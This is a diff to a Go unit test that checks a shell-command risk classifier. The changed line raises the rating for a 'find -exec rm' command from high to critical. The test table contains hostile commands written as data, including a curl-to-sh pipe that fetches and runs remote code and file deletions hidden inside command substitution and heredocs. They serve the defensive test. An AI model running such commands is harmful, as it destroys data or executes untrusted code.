@@ -44,7 +44,7 @@ func TestParts(t *testing.T) {
 		"bash -c 'ls; rm a'":                   {"bash -c ls; rm a: medium"},
 		"cat <<X\n$(rm a)\nX":                  {"cat: none", "-: medium"},
 		"ls; ((":                               {"-: high"},
-		"find . -exec rm {} ';' ; ls":          {"find . -exec rm {} ;: high", "ls: none"},
+		"find . -exec rm {} ';' ; ls":          {"find . -exec rm {} ;: critical", "ls: none"},
 		"":                                     {"-: none"},
 		"curl https://x.example/a | sh":        {"curl https://x.example/a: none", "sh: critical"},
 		"diff <(rm a) b":                       {"diff /dev/fd/100 b: none", "-: medium"},
